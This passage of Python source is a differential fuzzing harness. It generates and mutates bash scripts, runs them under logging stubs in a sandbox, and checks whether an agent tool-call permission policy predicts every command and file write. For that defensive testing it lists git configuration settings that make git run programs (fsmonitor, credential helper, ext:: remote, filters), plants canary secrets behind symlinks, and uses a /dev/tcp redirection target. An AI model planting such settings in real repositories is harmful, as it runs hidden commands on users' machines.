                )
                return f"{self.pick(('bash', 'sh'))} {self._here_document(text)}{other}"
            case _:
                options = self.pick(("-c", "-c", "-ec", "-c --", "--norc -c", "-uc", "-xc"))
                front = self.pick(_BEFORE_SHELL if self.chance(0.15) else ("", "", "A=x "))
                return f"{front}bash {options} {self.quoted(text)}{self.pick(('', '', ' x y'))}"

    # -- compound commands

    def compound(self, depth: int) -> str:
        body = self.body(depth)
        kind = self.random.randrange(8)
        if kind in (3, 4, 5) and self.chance(0.2):
            body += self.pick(
                ("break; ", "continue; ", "ok && break; ", "no || continue; ", "eval break; ")
            ) + self.body(0)
        match kind:
            case 0:
                return f"({body})"
            case 1:
                return f"{{ {body}}}"
            case 2:
                other = (
                    f"{self.pick(('else', f'elif {self.body(0)}then'))} {self.body(depth)}" if self.chance(0.5) else ""
                )
                return f"if {self.body(0)}then {body}{other}fi"
            case 3 | 4:
                words = " ".join(self.word(0) for _ in range(self.random.randrange(4)))
                name = self.pick(NAMES)
                variable = self.pick(("$@", '"$@"', "x${@}")).replace("@", name)
                use = f"{self.pick(('ok', 'cat', 'echo'))} {variable}; "
                return (
                    f"for {name} in {words}{self.pick(('; ', chr(10)))}do {use if self.chance(0.7) else ''}{body}done"
                )
            case 5:
                condition = self.pick(
                    (
                        "while [ $I -lt 3 ]; ",
                        "until [[ $J -gt 1 ]]; ",
                        "while no; ",
                        "until ok; ",
                        "while read A; ",
                        f"while {self.body(0)}",
                        f"until {self.body(0)}",
                    )
                )
                return f"{condition}do {body}break; done"
            case 6:
                patterns = [
                    self.pick(("a", "x*", "'x'", '"$A"', "a|b", "*", "[ab]", "$A", "(x", "a\\ b")) for _ in range(2)
                ]
                ended = body[:-1] if body.endswith(";") and not body.endswith("\\;") else body
                return f"case {self.word(0)} in {patterns[0]}) {ended.removesuffix('; ')};; {patterns[1]}) {self.body(0)}esac"
            case _:
                calm = (
                    "[[ -f a.txt ]]",
                    "[[ $A == x* ]]",
                    "[[ -n $A && ( $B < y || ! -d sub ) ]]",
                    "[[ 1 -lt 2 ]]",
                    '[[ "$(ok x)" = y ]]',
                    "[[ $A =~ ^[a-z]+$ ]]",
                    "[[ $A =~ (a|b)c||x && -n $B ]]",
                    "[[ x =~ ^(x|y$) ]]",
                    "[[ $A =~ $B || $(ok) =~ a\\.b ]]",
                )
                odd = (
                    "[[ a =~ (b ok) ]]",
                    "[[ a =~ b|$(ok) ]]",
                    "[[ a =~ a(b||ok ]]",
                    "[[ a =~ 'b'||ok ]]",
                    "[[ a =~ a]]",
                    "[[ a =~ \\( && b ]]",
                    "[[ a =~ [(] && b ]]",
                    "[[ $A -eq 1 ]]",
                    "[[ -v A ]]",
                    "[[ a ]]",
                    "[[ a == $(ok) && b ]]",
                    "[[ -f a.txt -a b ]]",
                    "[[ a = @(b) ]]",
                )
                return self.pick(odd if self.chance(0.05 + self.wild) else calm)

    def body(self, depth: int) -> str:
        """Return commands with what ends the last of them, here-documents included."""
        outer, self._pending = self._pending, []
        text = self.lists(depth, 1 + self.chance(0.3))
        self._pending = outer
        return text

    # -- words

    def word(self, depth: int) -> str:
        if self.chance(self.wild):
            return self.pick(HAZARDS)
        text = self.piece(depth)
        while self.chance(0.12):
            text += self.piece(depth)
        return text

    def known(self, depth: int) -> str:
        """Return a word whose value does not depend on much."""
        if self.chance(self.wild):
            return self.pick(HAZARDS)
        kind = self.random.random()
        if kind < 0.9:
            return self.quoted(self.pick(FILES if self.chance(0.6) else VALUES))
        if kind < 0.92:
            return self.pick(BRACES)
        return self.pick(GLOBS[:24:2]) if kind < 0.95 else self.pick(('"$A"', "$A", '"x$B"', '"$PWD"', "$HOME/x"))

    def piece(self, depth: int) -> str:
        kind = self.random.random()
        if kind < 0.38:
            return self.quoted(self.pick(FILES))
        if kind < 0.7:
            return self.quoted(self.pick(VALUES))
        if kind < 0.8:
            return self.pick(GLOBS)
        if kind < 0.89:
            return self.pick(EXPANSIONS)
        if kind < 0.92:
            return self.pick(BRACES)
        if kind < 0.95:
            return self.pick(("~", "~/x", "~/h.txt"))
        return self.substitution(depth)

    def substitution(self, depth: int) -> str:
        body = self.body(depth - 1) if depth > 0 else self.simple(0)
        match self.random.randrange(6):
            case 0:
                return f"$({body})"
            case 1:
                return f'"$({body})"'
            case 2:
                return f"`{self.simple(0)}`"
            case 3:
                return f'"`{self.pick(("ok", "ok x", "run $A", "cat a.txt | no"))}`"'
            case 4:
                return f'"a $({body}) b"'
            case _:
                return f"<({body})"

    def quoted(self, value: str) -> str:
        """Return a spelling of a value."""
        match self.random.randrange(8):
            case 0 | 1 | 2 if _BARE.fullmatch(value):
                return value
            case 3 if value:
                return _with_backslashes(value)
            case 4:
                return '"' + re.sub(r'([$`"\\])', r"\\\1", value) + '"'
            case 5 if value:
                return "$'" + "".join(self._ansi(char) for char in value) + "'"
            case 6 if len(value) > 1:
                at = 1 + self.random.randrange(len(value) - 1)
                return self.quoted(value[:at]) + self.quoted(value[at:])
            case _:
                return value if _BARE.fullmatch(value) else "'" + value.replace("'", "'\\''") + "'"

    def _ansi(self, char: str) -> str:
        if char in "'\\":
            return f"\\{char}"
        if char.isascii() and self.chance(0.3):
            return self.pick((f"\\x{ord(char):02x}", f"\\{ord(char):03o}", f"\\u{ord(char):04x}"))
        return char

    # -- redirections

    def redirection(self, depth: int) -> str:
        kind = self.random.random()
        if kind < 0.2:
            return self.pick(COPIES)
        if kind < 0.32:
            return self._here_document(self.pick(_BODIES))
        if kind < 0.4:
            return f"<<<{self.pick(('', ' '))}{self.word(0)}"
        number = self.pick(("2", "1", "3", "0")) if self.chance(0.2) else ""
        target = (
            self.quoted(self.pick(TARGETS))
            if self.chance(0.95)
            else self.pick(("-", "2", "&1x", "~/new", "*.txt", "1-", "/dev/tcp/x/1"))
        )
        if self.chance(0.06):
            target = self.word(depth)
        return f"{number}{self.pick(OPERATORS)}{self.pick(('', '', ' '))}{target}"

    def _here_document(self, body: str) -> str:
        self._here += 1
        delimiter = f"{self.pick(('E', 'EOF', 'end'))}{self._here}"
        strip = self.chance(0.25)
        if body and not body.endswith("\n"):
            body += "\n"
        if strip:
            body = "".join(f"\t{line}\n" for line in body.split("\n")[:-1])
        self._pending.append(f"{body}{self.pick(('', chr(9))) if strip else ''}{delimiter}\n")
        spelling = (
            self.pick((delimiter, f"'{delimiter}'", f'"{delimiter}"', f"\\{delimiter}"))
            if self.chance(0.7)
            else delimiter
        )
        return f"<<{'-' if strip else ''}{self.pick(('', ' '))}{spelling}"


def _with_backslashes(value: str) -> str:
    return "".join(
        "$'\\n'" if char == "\n" else char if char.isalnum() or char in "_./" else f"\\{char}" for char in value
    )


# ---------------------------------------------------------------------------------------------------------------------
# Mutations.

_TOKEN = re.compile(r"\s+|[A-Za-z0-9_.-]+|&&|\|\||>>|<<|\$\(|.", re.DOTALL)
_SPECIAL = (
    *"'\"\\$`;&|<>(){}*?[]~#!= \n\t-/.,:%+@^0129aAx", "\\\n", "$'", '$"', "${", "$(", "<(", "&>", "\r", "\u00a0", "é",
)  # fmt: skip
_AROUND = (
    ("'", "'"), ('"', '"'), ("$'", "'"), ("$(", ")"), ('"$(', ')"'), ("`", "`"), ("(", ")"), ("{ ", "; }"),
    ("bash -c '", "'"), ("eval '", "'"), ("eval ", ""), ("env ", ""), ("timeout 5 ", ""), ("xargs ", ""), ("! ", ""),
    ("time ", ""), ("if ", "; then ok; fi"), ("for A in ", "; do ok $A; done"), ("while ", "; do break; done"),
    ("case x in *) ", ";; esac"), ("<(", ")"), ("ok; ", "; ok"), ("cd sub && ", ""), ("A=1 ", ""), ("A=", ""),
    ("${A:-", "}"), ("$((", "))"), ("[[ ", " ]]"), ("[ ", " ]"), ("coproc ", ""), ("f() { ", "; }; f"),
    ("cat <<E\n", "\nE\n"), ("bash <<'E'\n", "\nE\n"), ("exec ", ""),
)  # fmt: skip


def mutated(grammar: Grammar, text: str, other: str) -> str:
    """Return `text` with one to four changes; `other` is what it may be spliced with."""
    random = grammar.random
    for _ in range(1 + random.randrange(4)):
        text = _changed(grammar, text, other)
    return text[:2000]


def _changed(grammar: Grammar, text: str, other: str) -> str:
    random = grammar.random
    at = random.randrange(len(text) + 1)
    tokens = _TOKEN.findall(text)
    place = random.randrange(len(tokens) + 1)
    match random.randrange(14):
        case 0:
            return text[:at] + text[at + 1 :]
        case 1 | 2:
            return text[:at] + grammar.pick(_SPECIAL) + text[at:]
        case 3:
            return text[:at] + text[at : at + 1] + text[at:]
        case 4:
            return "".join(tokens[:place] + tokens[place + 1 :])
        case 5:
            return "".join(tokens[:place] + tokens[place : place + 1] + tokens[place:])
        case 6 | 7:
            end = min(len(tokens), place + 1 + random.randrange(6))
            before, after = _AROUND[random.randrange(len(_AROUND))]
            return "".join((*tokens[:place], before, *tokens[place:end], after, *tokens[end:]))
        case 8:
            return f"{text[:at]}\\\n{text[at:]}"
        case 9:
            spaces = [i for i, token in enumerate(tokens) if token.isspace()]
            place = spaces[random.randrange(len(spaces))] if spaces else place
            return "".join((*tokens[:place], " ", grammar.redirection(1), " ", *tokens[place:]))
        case 10:
            return text + grammar.pick((" ; ", " && ", " || ", " | ", "\n", " ")) + other
        case 11:
            cut = random.randrange(len(other) + 1)
            return text[:at] + other[cut:]
        case 12:
            return "".join((*tokens[:place], grammar.pick(HAZARDS), *tokens[place:]))
        case _:
            return "".join((*tokens[:place], grammar.word(1), *tokens[place + 1 :]))


class Made(NamedTuple):
    """A script, and how it was made."""

    text: str
    origin: str


def scripts(random: Random, count: int) -> Iterator[Made]:
    """Yield made-up scripts: half from the grammar, half mutations of the corpus and of such scripts."""
    corpus = seeds()
    for number in range(count):
        wild = (0.0, 0.0, 0.03, 0.1)[random.randrange(4)]
        grammar = Grammar(random, wild)
        if number % 2 == 0:
            yield Made(grammar.script(), "grammar" if not wild else "wild grammar")
            continue
        text = corpus[random.randrange(len(corpus))] if random.random() < 0.7 else grammar.script()
        yield Made(mutated(grammar, text, corpus[random.randrange(len(corpus))]), "mutation")


# ---------------------------------------------------------------------------------------------------------------------
# Bash, among stubs.

# A stub writes one record with one write(2): argc, argv, folder, open files, environment; then prints its operands, or runs
# the real program, if BASE/real has it. Half of some programs' calls fail, so that both ways are taken.
_STUB = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
static char record[1 << 20];
static size_t used;
static void field(const char *text) {
  size_t length = strlen(text) + 1;
  if (used + length + 2 > sizeof record) return;
  memcpy(record + used, text, length);
  used += length;
}
int main(int argc, char **argv, char **environment) {
  char text[4200], name[300];
  const char *base = strrchr(argv[0], '/');
  base = base ? base + 1 : argv[0];
  if (!strcmp(base, "not-found")) { argv++; argc--; base = argv[0]; }
  snprintf(text, sizeof text, "%d", argc);
  field(text);
  for (int i = 0; i < argc; i++) field(argv[i]);
  field(getcwd(text, sizeof text) ? text : "");
  for (int i = 0; i < 10; i++) {
    char link[4096];
    snprintf(name, sizeof name, "/proc/self/fd/%d", i);
    ssize_t length = readlink(name, link, sizeof link - 1);
    if (length <= 0 || link[0] != '/') continue;
    link[length] = 0;
    snprintf(text, sizeof text, "%d=%s", i, link);
    field(text);
  }
  field("");
  for (char **each = environment; *each; each++) if (**each) field(*each);
  field("");
  int file = open(LOG, O_WRONLY | O_APPEND | O_CREAT, 0600);
  struct stat status;
  if (file < 0 || fstat(file, &status) || write(file, record, used) < 0) return 99;
  if (status.st_size > 150000) kill(0, SIGKILL); /* the group of the script; its parent may be the checker */
  close(file);
  snprintf(text, sizeof text, REAL "/%.200s", base);
  if (argc && base[0] && !strchr(argv[0], '/')) execv(text, argv);
  for (int i = 1; i < argc; i++) { fputs(argv[i], stdout); putchar(i + 1 < argc ? ' ' : '\n'); }
  if (!strcmp(base, "no") || !strcmp(base, "false")) return 1;
  if (!strcmp(base, "test") || !strcmp(base, "[") || !strcmp(base, "grep") || !strcmp(base, "diff"))
    return (status.st_size / 7 + argc) & 1;
  return 0;
}
"""
_PRELUDE = 'enable -n {unbuilt}\ncommand_not_found_handle() {{ {stub} "$@"; }}\n'
UNBUILT = "echo printf test [ true false pwd kill type times help umask".split()
"""Builtins that are turned off, so that the stubs are run in their place."""
_REAL = "env timeout nice nohup stdbuf xargs find bash sh dash setsid taskset ionice flock prlimit chrt".split()
"""Programs that are the real ones, behind their record, so that what they run is recorded too."""
_CHANGED_BY_BASH = frozenset("_ SHLVL PWD OLDPWD LD_PRELOAD _STDBUF_O _STDBUF_I _STDBUF_E LINES COLUMNS".split())
_TREE = {
    "a.txt": "x y\nsub\n", "b c.txt": "a\n", "x1": "", "sub/d.py": "", "sub/e.txt": "e\n", ".hidden": "h\n",
    "deep/deeper/f": "f\n", "A=1": "",
    "-rf": "", "--output=x": "", "home/h.txt": "home\n", "[ab]": "", "st*r": "", "odd/new\nline": "", "odd/ x": "",
    "link": "->sub", "sublink": "->deep/deeper",
}  # fmt: skip


SECRET = b"c4n4ry\n"
"""What stands in files that readers must not show; programs may show it backwards, in capitals, in hexadecimal digits ..."""
_SHOWN = re.compile(
    rb"c4n4ry|c   4   n   4|yr4n4c|C4N4RY|6334 ?6e34 ?7279|63 34 6e 34 72 79|YzRuNHJ5|3463 346e|143 064 156",
    re.IGNORECASE,
)


class Ran(NamedTuple):
    """One program that was run."""

    argv: Argv
    folder: str
    files: tuple[str, ...]
    """What it had open, by the names that the kernel gives."""
    environment: dict[str, str]


class Outcome(NamedTuple):
    """What bash did with a script."""

    ran: tuple[Ran, ...]
    changed: tuple[str, ...]
    """Files, absolute, that are new, gone or other than before."""
    timed_out: bool
    printed: bytes = b""


class Scratch:
    """A folder of its own with a workspace, a home, stubs and a canary; bash is run in it."""

    def __init__(self, *, real: Sequence[str] = (), hostile: int = -1) -> None:
        """Make the folder. `real`: names of real programs that PATH holds in place of stubs, the folder being a repository.

        `hostile`: which of _HOSTILE its configuration holds; none of them where it is negative.
        """
        self.base = os.path.realpath(tempfile.mkdtemp(prefix="differential-"))
        os.chmod(self.base, 0o755)
        self.root = f"{self.base}/p/q/w"
        self.canary = f"{self.base}/p/q/canary"
        self.home = f"{self.root}/home"
        self._log = f"{self.base}/log"
        self._output = f"{self.base}/output" if real else "/dev/null"
        self._bash = next(path for path in ("/bin/bash", "/usr/bin/bash") if os.access(path, os.X_OK))
        os.makedirs(self.root)
        os.makedirs(f"{self.base}/bin")
        os.makedirs(f"{self.base}/real")
        if real:
            for name in real:
                _link_to(shutil.which(name), f"{self.base}/bin/{name}")
        else:
            self._make_stubs()
        self.environment = child_environment(
            {"PATH": f"{self.base}/bin", "HOME": self.home, "LANG": "C.UTF-8", "USER": "nobody"}
        )
        if real:
            effects = Effects(read=None, write=None, network=False, unasked=True)
            self.environment |= unasked_variables(effects, self.environment["PATH"], self.root)
        else:
            self.environment["BASH_ENV"] = f"{self.base}/prelude"
        self._real = bool(real)
        self._hostile = _HOSTILE[hostile % len(_HOSTILE)] if hostile >= 0 else ()

    def settle(self) -> None:
        """Give up privileges, where there are any, for good; then make the files."""
        if os.geteuid() == 0:
            for folder, folders, files in os.walk(self.base):
                for name in (".", *folders, *files):
                    os.chown(os.path.join(folder, name), 65534, 65534, follow_symlinks=False)
            os.setgroups([])
            os.setresgid(65534, 65534, 65534)
            os.setresuid(65534, 65534, 65534)
        self._make_tree()
        os.chdir(self.root)

    def remove(self) -> None:
        os.chdir("/")
        shutil.rmtree(self.base, ignore_errors=True)

    def run(self, text: str) -> Outcome:
        """Run a script in the folder, which is this process's own, and put the folder back as it was."""
        with contextlib.suppress(FileNotFoundError):
            os.truncate(self._log, 0)
        timed_out = self._finish(self._start(text), slow="(" in text and (">" in text or "<" in text))
        ran = self._records()
        after = self._snapshot()
        changed = tuple(
            sorted(path for path in after.keys() | self._before.keys() if after.get(path) != self._before.get(path))
        )
        if changed:
            self._make_tree()
        return Outcome(ran=ran, changed=changed, timed_out=timed_out, printed=self._printed())

    def _start(self, text: str) -> int:
        return os.posix_spawn(
            self._bash,
            ("bash", "--noprofile", "--norc", "-c", "--", text),
            self.environment,
            file_actions=[
                (os.POSIX_SPAWN_OPEN, 0, "/dev/null", os.O_RDONLY, 0),
                (os.POSIX_SPAWN_OPEN, 1, self._output, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600),
                (os.POSIX_SPAWN_DUP2, 1, 2),
            ],
            setpgroup=0,
        )

    def _finish(self, pid: int, *, slow: bool) -> bool:
        watch = os.pidfd_open(pid)
        poll = select.poll()
        poll.register(watch, select.POLLIN)
        timed_out = not poll.poll(SECONDS * 1000)
        if slow:
            time.sleep(0.004)  # bash does not wait for `<( )`; a busy machine may hide a finding, it makes none
        with contextlib.suppress(ProcessLookupError):
            os.killpg(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(watch)
        return timed_out

    def _records(self) -> tuple[Ran, ...]:
        try:
            with open(self._log, "rb") as file:
                fields = iter(file.read().decode("utf-8", "surrogateescape").split("\0"))
        except FileNotFoundError:
            return ()
        ran = []
        for count in fields:
            if not count:
                break
            argv = tuple(next(fields) for _ in range(int(count)))
            folder = next(fields)
            files = tuple(each.partition("=")[2] for each in iter(fields.__next__, ""))
            environment = dict(each.partition("=")[::2] for each in iter(fields.__next__, ""))
            ran.append(Ran(argv=argv, folder=folder, files=files, environment=environment))
        return tuple(ran)

    def _printed(self) -> bytes:
        if not self._real:
            return b""
        with open(self._output, "rb") as file:
            return file.read(1_000_000)

    def _make_stubs(self) -> None:
        stub = f"{self.base}/stub"
        source = f"{self.base}/stub.c"
        with open(source, "w") as file:
            file.write(_STUB)
        compiler = next((name for name in ("cc", "gcc", "clang") if shutil.which(name)), None)
        if compiler is None:
            raise SystemExit("differential.py needs a C compiler for its stubs")
        options = ["-O1", f'-DLOG="{self._log}"', f'-DREAL="{self.base}/real"', "-o", stub, source]
        if subprocess.run([compiler, "-static", *options], capture_output=True, check=False).returncode:
            subprocess.run([compiler, *options], check=True)
        known = {
            *modelled_names(),
            *UNBUILT,
            *_REAL,
            "ok",
            "no",
            "run",
            *PROGRAMS,
            *(shape.split()[0] for shape in SHAPES),
        }
        for name in known:
            if "/" not in name and name not in _KEPT:
                os.symlink(stub, f"{self.base}/bin/{name}")
        os.symlink(stub, f"{self.base}/not-found")
        for name in _REAL:
            _link_to(shutil.which(name), f"{self.base}/real/{name}")
        with open(f"{self.base}/prelude", "w") as file:
            file.write(_PRELUDE.format(unbuilt=" ".join(UNBUILT), stub=f"{self.base}/not-found"))

    def _make_tree(self) -> None:
        for folder in (self.root, self.canary):
            shutil.rmtree(folder, ignore_errors=True)
            os.makedirs(folder)
        for name, content in _TREE.items():
            path = f"{self.root}/{name}"
            os.makedirs(os.path.dirname(path), exist_ok=True)
            if content.startswith("->"):
                os.symlink(content[2:], path)
                continue
            with open(path, "w") as file:
                file.write(content)
        with open(f"{self.canary}/secret", "wb") as file:
            file.write(SECRET)
        if self._real:
            self._hide_secrets()
            _make_repository(self.root, self.environment, self._hostile)
        else:
            for name in ("ok", "sub/ok"):
                shutil.copy(f"{self.base}/stub", f"{self.root}/{name}")
        os.chdir(self.root)
        self._before = self._snapshot()

    def _hide_secrets(self) -> None:
        """Put secrets where rules forbid reading, and links to one outside."""
        os.makedirs(f"{self.root}/odd/more")
        os.mkdir(f"{self.root}/hidden")
        for name in ("deep/.env", "k.pem", "hidden/x"):
            with open(f"{self.root}/{name}", "wb") as file:
                file.write(SECRET)
        for name in (
            "a k.pem",
            "'",
            "x\\",
            "-f",
            "+1",
            "t.txt",
            "e=1",
            "HEAD:k.pem",
        ):  # words of xargs, options, revisions
            with open(f"{self.root}/odd/{name}", "w") as file:
                file.write("odd\n")
        with open(f"{self.root}/odd/more/e\nk.pem", "w") as file:
            file.write("odd\n")
        os.symlink("../canary", f"{self.root}/way")
        os.symlink("../canary/secret", f"{self.root}/sub/out")
        os.symlink("../deep/.env", f"{self.root}/sub/in")

    def _snapshot(self) -> dict[str, tuple[int, ...]]:
        found: dict[str, tuple[int, ...]] = {}
        waiting = [f"{self.base}/p"]
        while waiting:
            with contextlib.suppress(FileNotFoundError, PermissionError), os.scandir(waiting.pop()) as entries:
                for entry in entries:
                    status = entry.stat(follow_symlinks=False)
                    if entry.is_dir(follow_symlinks=False):
                        waiting.append(entry.path)
                        found[entry.path] = (status.st_mode, status.st_ino)
                    else:
                        found[entry.path] = (
                            status.st_mode,
                            status.st_ino,
                            status.st_size,
                            status.st_mtime_ns,
                            status.st_nlink,
                        )
        return found


_KEPT = frozenset(
    ": alias break builtin cd command continue eval exec exit export jobs read return set shift source unset wait .".split()
)


def _link_to(program: str | None, path: str) -> None:
    if program is not None:
        os.symlink(os.path.realpath(program) if program.endswith("/sh") else program, path)


# Settings by which a repository has git run a program, each with a line of .gitattributes that may be needed for it.
_HOSTILE = (
    ("core.fsmonitor", "touch out-fsmonitor", ""), ("diff.external", "touch out-external", ""),
    ("diff.x.textconv", "touch out-t", "* diff=x"), ("diff.x.command", "touch out-command", "* diff=x"),
    ("filter.x.clean", "touch out-clean", "* filter=x"), ("filter.x.process", "touch out-process", "* filter=x"),
    ("filter.x.smudge", "touch out-smudge", "* filter=x"), ("alias.st", "!touch out-alias", ""),
    ("core.pager", "touch out-pager", ""), ("pager.log", "touch out-pager", ""), ("core.hooksPath", "sub", ""),
    ("gpg.program", "touch out-gpg", ""), ("log.showSignature", "true", ""),
    ("merge.x.driver", "touch out-m", "* merge=x"), ("core.editor", "touch out-editor", ""),
    ("include.path", "../sub/e.txt", ""), ("core.sshCommand", "touch out-ssh", ""),
    ("remote.origin.url", "ext::touch out-ext", ""), ("uploadpack.packObjectsHook", "touch out-hook", ""),
    ("core.attributesFile", "sub/e.txt", ""), ("core.alternateRefsCommand", "touch out-refs", ""),
    ("trailer.x.command", "touch out-trailer", ""), ("core.askPass", "touch out-ask", ""),
    ("credential.helper", "!touch out-credential", ""), ("core.worktree", "../../canary", ""),
    ("core.gitProxy", "touch out-proxy", ""), ("submodule.x.update", "!touch out-submodule", ""),
    ("interactive.diffFilter", "touch out-filter", ""), ("diff.tool", "touch", ""), ("column.ui", "always", ""),
    ("help.autoCorrect", "immediate", ""), ("core.untrackedCache", "true", ""), ("maintenance.auto", "true", ""),
    ("gc.auto", "1", ""), ("core.splitIndex", "true", ""), ("feature.manyFiles", "true", ""),
    ("index.version", "4", ""),
)  # fmt: skip


def _make_repository(root: str, environment: dict[str, str], hostile: Sequence[str]) -> None:
    environment = {
        **environment,
        "GIT_AUTHOR_DATE": "2020-01-01T00:00:00Z",
        "GIT_COMMITTER_DATE": "2020-01-01T00:00:00Z",
    }

    def git(*words: str) -> None:
        subprocess.run(["/usr/bin/git", *words], cwd=root, env=environment, check=True, capture_output=True)

    git("init", "-q")
    git("add", "a.txt", "sub")
    git("-c", "user.name=n", "-c", "user.email=e@x.test", "commit", "-q", "-m", "one")
    with open(f"{root}/a.txt", "a") as file:
        file.write("changed\n")
    if hostile:
        key, value, attributes = hostile
        git("config", key, value)
        with open(f"{root}/.gitattributes", "w") as file:
            file.write(f"{attributes}\n")


# ---------------------------------------------------------------------------------------------------------------------
# What was predicted, against what was run.


class Reading(NamedTuple):
    """What the harness makes of a script."""

    facets: tuple[Facet, ...]
    auto: bool

    @property
    def opaque(self) -> bool:
        return any(isinstance(facet, Opaque) for facet in self.facets)

    @property
    def commands(self) -> list[Command]:
        return [facet for facet in self.facets if isinstance(facet, Command)]

    @property
    def paths(self) -> list[PathAccess]:
        """Every path that any facet names."""
        return [path for facet in self.facets for path in _paths_of(facet)]


def _paths_of(facet: Facet) -> Sequence[PathAccess]:
    if isinstance(facet, PathAccess):
        return (facet,)
    return facet.paths if isinstance(facet, Command | Opaque) else ()


class Reader:
    """Reads and judges scripts for one workspace, under one policy."""

    def __init__(self, policy: bytes, workspace: Workspace) -> None:
        self._policy = parse_policy(policy, "differential.toml")
        self.workspace = workspace

    def read(self, text: str) -> Reading:
        facets = read_commands(text, self.workspace)
        action = Action(
            call=ToolCall(id="1", name="bash", arguments="{}"),
            tool="bash",
            arguments={},
            facets=facets,
            summary="",
            preview="",
            request=None,
            text=text,
        )
        return Reading(facets=facets, auto=evaluate(self._policy, action).decision is Decision.AUTO)


# What stands in a predicted word for a value that is not known: expansions, words of xargs, files of find, patterns.
_OPEN = re.compile(
    r"\$(?:\(\.\.\.\)|\(\([^()]*(?:\([^()]*\)[^()]*)*\)\)|\{[^{}]*\}|[A-Za-z_][A-Za-z0-9_]*|[0-9@*?#$!-])"
    r"|<\(\.\.\.\)|\(words of xargs\)|/dev/fd/63|[*?]|\[[^\]]*\]"
)
_DIGITS = re.compile(r"\$(?:[?#$!]|\(\(.*\)\)|\{#.*\})", re.DOTALL)


class Predicted:
    """The commands of a reading, to find those that a program which ran may be."""

    def __init__(self, text: str, reading: Reading) -> None:
        self._commands = reading.commands
        markers = [re.escape(marker) for marker in _markers(self._commands)]
        self._open = re.compile("|".join((_OPEN.pattern, *markers))) if markers else _OPEN
        marked = re.compile("|".join(markers) or "(?!)")
        self._constants = {word for word in _constants(text) if not marked.search(word)}
        self._exact: dict[Argv, list[Command]] = {}
        for command in self._commands:
            self._exact.setdefault(command.argv, []).append(command)

    def matching(self, argv: Argv) -> list[Command]:
        """Return the commands that were predicted as these words, or with words of unknown value that may be these."""
        exact = self._exact.get(argv, [])
        ran = "\0".join(argv)
        loose = [
            command
            for command in self._commands
            if command.argv != argv and command.argv[0] == argv[0] and re.fullmatch(self._pattern(command.argv), ran)
        ]
        return exact + loose

    def _pattern(self, argv: Argv) -> str:
        parts = [re.escape(argv[0])]
        for word in argv[1:]:
            if word in self._constants or not self._open.search(word):
                parts.append(r"\x00" + re.escape(word))
                continue
            if "$$" in word:  # a dollar before an expansion, or the expansion `$$`
                parts.append(r"(?:\x00[\s\S]*)?")
                continue
            inside = "".join(
                re.sub("/+", "/+", re.escape(piece))
                if index % 2 == 0
                else f"(?:[0-9]*|{re.escape(piece)})"
                if _DIGITS.fullmatch(piece)
                else r"[\s\S]*"
                for index, piece in enumerate(self._split(word))
            )
            parts.append(rf"(?:\x00{inside})?")
        return "".join(parts)

    def _split(self, word: str) -> list[str]:
        """Return what is known of a word, at the even places, and what is not."""
        pieces = []
        end = 0
        for match in self._open.finditer(word):
            pieces += [word[end : match.start()], match.group()]
            end = match.end()
        return [*pieces, word[end:]]


def _markers(commands: Sequence[Command]) -> Iterator[str]:
    """Yield what find and xargs replace in the words of their commands."""
    for command in commands:
        if command.argv[0] in ("find", "xargs"):
            yield "{}"
            yield from (after for word, after in pairwise(command.argv) if word == "-I" and after)
            yield from (
                match[1] for word in command.argv if (match := re.fullmatch(r"(?:-[0rtx]*[Ii]|--replace=)(.+)", word))
            )


def _constants(text: str) -> set[str]:
    """Return the values of the constant words of a script, but for those that an expansion is shown as, too."""
    constants: set[str] = set()
    shown: set[str] = set()
    for word in _words_of_text(text):
        value = word.constant
        if value is None:
            shown.add("".join(_shown(piece) for piece in word.pieces))
        else:
            constants.add(value)
    return constants - shown


def _words_of_text(text: str, depth: int = 0) -> Iterator[Word]:
    """Yield the words of a script, and of those that may be scripts themselves, alone or behind `eval`."""
    script = parse(text)
    inner: set[str] = set()
    for word in _parts(script, Word):
        yield word
        inner.add(word.constant or "")
    for simple in _parts(script, Simple):
        values = [word.constant or "" for word in simple.words]
        if values[:1] == ["eval"]:
            inner.add(" ".join(values[1:]))
    if depth < 4:
        for value in inner:
            if re.search(r"\S[ \t\n;|&<>]", value):
                yield from _words_of_text(value, depth + 1)


def _shown(piece: Piece) -> str:
    if isinstance(piece, Modified):
        return f"${{{piece.name}{piece.operator}{piece.operand}}}"
    return f"${piece.name}" if isinstance(piece, Parameter) else getattr(piece, "text", "$(...)")


def _parts(node: object, kind: type[Kind]) -> Iterator[Kind]:
    """Yield every record of a kind in a tree of records."""
    if isinstance(node, kind):
        yield node
    if isinstance(node, tuple):
        for each in node:
            yield from _parts(each, kind)
    for name in getattr(type(node), "__slots__", ()):
        yield from _parts(getattr(node, name), kind)


class Finding(NamedTuple):
    """A counterexample."""

    kind: str
    what: str


_OPERANDS_ARE_PATHS = frozenset(("ok", "no", "run", "cat", "./ok", "sub/ok"))
"""Stubs of which every word without a dash in front is taken for a path: the folder that they ran in is held against that."""


def find_unpredicted(text: str, reading: Reading, outcome: Outcome, environment: dict[str, str]) -> Finding | None:
    """Return what bash did that the reading of an AUTO script does not name, or None."""
    if any(command.act is Act.RUNS and command.argv[0] in ("bash", "sh", "dash") for command in reading.commands):
        return None  # what stands in a file is not predicted, and does not run under the policies that people have
    predicted = Predicted(text, reading)
    named = {path.real for path in reading.paths}
    for ran in outcome.ran:
        commands = predicted.matching(ran.argv)
        if not commands:
            return Finding("argv", f"{ran.argv!r} was run")
        finding = (
            _check_places(ran, commands)
            or _check_variables(ran, commands, environment)
            or _check_files(ran, named, reading)
        )
        if finding is not None:
            return finding
    written = [path for path in reading.paths if path.access is not Access.READ]
    for changed in outcome.changed:
        # A link that is removed is named, and `real` is where it leads.
        if not any(
            path.real == changed
            or changed.endswith(f"/{path.names[0]}")
            or (path.tree and changed.startswith(path.real + "/"))
            for path in written
        ):
            return Finding("written", f"{changed!r} was written")
    return None


def _check_places(ran: Ran, commands: Sequence[Command]) -> Finding | None:
    if ran.argv[0] not in _OPERANDS_ARE_PATHS:
        return None
    operands = []
    for position, word in enumerate(ran.argv[1:]):
        if word and (word[0] != "-" or "--" in ran.argv[1 : position + 1]) and not word.startswith("/dev/"):
            operands.append(os.path.realpath(os.path.join(ran.folder, word)))
    for command in commands:
        places = {path.real for path in command.paths}
        if places.issuperset(operands) or any(_OPEN.search(word) or "{}" in word for word in command.argv):
            return None
